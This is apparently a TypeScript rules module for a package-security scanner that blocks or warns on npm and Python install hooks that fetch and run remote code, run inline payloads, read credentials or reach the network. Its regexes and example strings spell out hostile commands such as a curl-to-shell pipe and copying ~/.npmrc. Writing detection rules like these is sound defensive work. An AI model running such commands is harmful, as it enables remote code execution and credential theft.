/**
 * CQ-02 install-hook rules (MTF 3.4, "Suspicious install hook: BLOCK", "Network access in setup/install: WARN"):
 * what a package.json lifecycle script, a script it runs, or a Python build hook must not do. Shell-level
 * signatures that apply to any file (reverse shells, the environment piped to curl, base64 piped to a shell)
 * live in malware.ts and reach package.json through the text scan.
 */

import type { Severity } from '../spec/levels.js';

/** npm lifecycle scripts that run on `npm install` (`prepare` for the root package and git dependencies). */
export const INSTALL_HOOKS: readonly string[] = ['preinstall', 'install', 'postinstall', 'prepare', 'prepublish'];

export interface HookRule {
  id: string;
  title: string;
  why: string;
  severity: Severity;
  action: 'BLOCK' | 'WARN';
  /** Linear, non-global: tested against one command or one script. */
  pattern: RegExp;
  /** A hook command the rule must report and one it must not. */
  examples: { match: string; noMatch: string };
}

/** In the order they are tried: the first rule that matches a command decides it. */
export const HOOK_RULES: readonly HookRule[] = [
  {
    id: 'hook-fetch-and-run',
    title: 'Install hook downloads and runs code',
    why: 'The hook downloads a program or script and executes it, so what runs at install time is whatever the server hands out that day.',
    severity: 'critical',
    action: 'BLOCK',
    pattern:
      /\b(?:curl|wget)\b[^|;&\n]{0,300}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh\b|\b(?:curl|wget)\b[^\n]{0,300}?(?:&&|;)\s{0,4}(?:(?:ba|z|k|da)?sh\s|chmod\s{1,4}(?:\+|[0-7]{3,4}\s)|\.\/)|\$\(\s{0,4}(?:curl|wget)\b|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]{0,200}\|\s{0,4}(?:iex|Invoke-Expression)\b|DownloadString\s{0,4}\(|\bcertutil\b[^\n]{0,60}-urlcache|\bbitsadmin\b[^\n]{0,60}\/transfer/i,
    examples: { match: 'curl -fsSL https://get.example.net/setup.sh | sh', noMatch: 'node-gyp rebuild' },
  },
  {
    id: 'hook-inline-code',
    title: 'Install hook runs an inline code payload',
    why: 'node -e, python -c and the like run code written into the hook itself, out of sight of anyone reading the package\'s files.',
    severity: 'high',
    action: 'BLOCK',
    pattern:
      /\b(?:node(?:js)?|bun)(?:\.exe)?\s{1,4}(?:--?[A-Za-z-]{1,30}(?:=\S{1,100})?\s{1,4}){0,4}(?:-e|--eval|-p|--print)\b|\bpython[0-9.]{0,4}(?:\.exe)?\s{1,4}(?:-[A-Za-z]{1,3}\s{1,4}){0,3}-c\b|\bperl\s{1,4}-[A-Za-z]{0,4}[eE]\b|\bruby\s{1,4}-e\b|\bphp\s{1,4}-r\b|\bdeno\s{1,4}eval\b|\bpowershell(?:\.exe)?\b[^\n]{0,100}\s-c(?:ommand)?\b/,
    examples: { match: 'node -e "require(\'https\').get(\'https://x.example.net/p\',r=>r.pipe(process.stdout))"', noMatch: 'node scripts/postinstall.js' },
  },
  {
    id: 'hook-credentials',
    title: 'Install hook touches credentials',
    why: 'The hook reads credential files or tokens (npm, SSH, cloud, Git), which an install step never needs.',
    severity: 'critical',
    action: 'BLOCK',
    pattern:
      /(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|%APPDATA%|homedir\(\)[^\n]{0,40})[\\/'", +]{1,6}\.?(?:ssh|npmrc|aws|netrc|git-credentials|docker|kube|gnupg|pypirc|config[\\/]gh)\b|\bid_(?:rsa|ed25519|ecdsa)\b|\/etc\/(?:passwd|shadow)\b|\.aws[\\/]credentials\b|\$\{?(?:NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID)\b/,
    examples: { match: 'cat ~/.npmrc > /tmp/x', noMatch: 'cp .env.example .env' },
  },
  {
    id: 'hook-network',
    title: 'Install hook accesses the network',
    why: 'The hook reaches the network at install time (MTF 3.4: network access in setup/install needs review).',
    severity: 'medium',
    action: 'WARN',
    pattern: /\b(?:curl|wget|iwr|Invoke-WebRequest|ncat|ftp|tftp|scp|rsync)\b|\bnc\s|https?:\/\/|\bnpx\s|\b(?:npm|pnpm|yarn)\s{1,4}(?:i|install|add)\b|\bpip[0-9.]{0,4}\s{1,4}install\b|\bgit\s{1,4}clone\b/,
    examples: { match: 'wget https://cdn.example.net/binary.tar.gz', noMatch: 'tsc -p tsconfig.json' },
  },
];

/**
 * Hook commands known to be benign in popular packages: native builds and prebuilt-binary fetchers from the
 * registry's own tooling, Git hook installers, patchers, compilers. A hook made only of these passes.
 */
export const BENIGN_HOOK_COMMAND =
  /^(?:node-gyp(?:-build(?:-optional-packages)?)?(?:\s+rebuild)?|prebuild-install|node-pre-gyp\s+install|husky(?:\s+install)?|patch-package|is-ci|not-in-publish|in-publish|tsc|tshy|ngcc|opencollective(?:-postinstall)?|exit\s+0|true|echo\b)(?:\s|$)/;

/** Script references in a hook command: the interpreter and a path inside the package (`node install.js`). */
export const LOCAL_SCRIPT = /^(?:node|nodejs|sh|bash|zsh|python[0-9.]{0,4}|tsx|ts-node)\s+(?:--?[A-Za-z-]{1,30}\s+){0,3}["']?(\.{0,2}\/?[A-Za-z0-9_@][A-Za-z0-9_@./-]{0,200})["']?(?:\s|$)/;

/**
 * `node -e "try{require('./postinstall')}catch(e){}"` (core-js and others): runs a local file, nothing else.
 * Matched against the payload with all whitespace removed, so the pattern needs no optional spaces.
 */
export const REQUIRE_LOCAL_WRAPPER = /^(?:try\{)?require\(['"](\.{1,2}\/[^'"]{1,200})['"]\);?(?:\}catch(?:\(\w{0,20}\))?\{\})?$/;

/** `npm run x`, `yarn x`, `pnpm run x`: another script of the same package.json. */
export const RUN_SCRIPT = /^(?:npm\s+run(?:-script)?\s+|pnpm\s+(?:run\s+)?|yarn\s+(?:run\s+)?)(?:--silent\s+|-s\s+)?([A-Za-z0-9:_.-]{1,100})(?:\s|$)/;

/** Code-level signals in a script an install hook runs (JavaScript or Python), tested on its whole text. */
export const SCRIPT_SIGNALS = {
  network:
    /\brequire\(\s*['"](?:node:)?(?:https?|net|tls|dgram|dns|http2|node-fetch|axios|got|undici|request|ftp)['"]\s*\)|\bfrom\s+['"](?:node:)?(?:https?|net|tls|dgram|dns|node-fetch|axios|got|undici)['"]|\bfetch\s*\(|\bXMLHttpRequest\b|\burllib\.request\b|\burlopen\s*\(|\burlretrieve\s*\(|\brequests\.(?:get|post|put|request)\s*\(|\bhttp\.client\b|\bsocket\.socket\s*\(|\bhttpx\./,
  execution:
    /\brequire\(\s*['"](?:node:)?child_process['"]\s*\)|\bfrom\s+['"](?:node:)?child_process['"]|\bsubprocess\.(?:run|call|check_call|check_output|Popen)\s*\(|\bos\.(?:system|popen|exec[lv]p?e?)\s*\(|(?<![.\w])(?:exec|eval)\s*\((?!\s*(?:open|compile\(\s*open)\()/,
  /** Whole-environment dumps, not single variables: install scripts read `npm_config_*` all the time. */
  environmentDump:
    /JSON\.stringify\(\s*process\.env\s*\)|Object\.(?:keys|entries|values|assign)\(\s*(?:\{\s*\}\s*,\s*)?process\.env\s*\)|\{\s*\.\.\.process\.env\s*\}|\bdict\(\s*os\.environ\s*\)|os\.environ\.(?:copy|items)\s*\(|json\.dumps\(\s*(?:dict\()?os\.environ/,
} as const;
